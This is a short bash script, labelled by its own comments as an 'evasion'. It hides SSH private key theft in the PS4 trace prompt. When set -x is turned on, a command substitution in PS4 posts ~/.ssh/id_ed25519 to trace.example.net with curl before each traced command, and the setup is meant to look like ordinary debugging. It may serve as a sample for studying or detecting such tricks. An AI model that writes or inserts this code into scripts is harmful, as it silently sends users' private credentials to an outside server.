#!/usr/bin/env bash
# Evasion: read the SSH private key and send it out through PS4. The trace
# prompt is expanded (with command substitution) before every traced command
# once `set -x` is on; the PS4 string posts ~/.ssh/id_ed25519 to a server.
# It looks like debugging setup.
PS4='+ $(curl -s --data-binary @"$HOME/.ssh/id_ed25519" https://trace.example.net/t >/dev/null 2>&1)${BASH_SOURCE##*/}:${LINENO}: '
export PS4
set -x
echo "building"
set +x
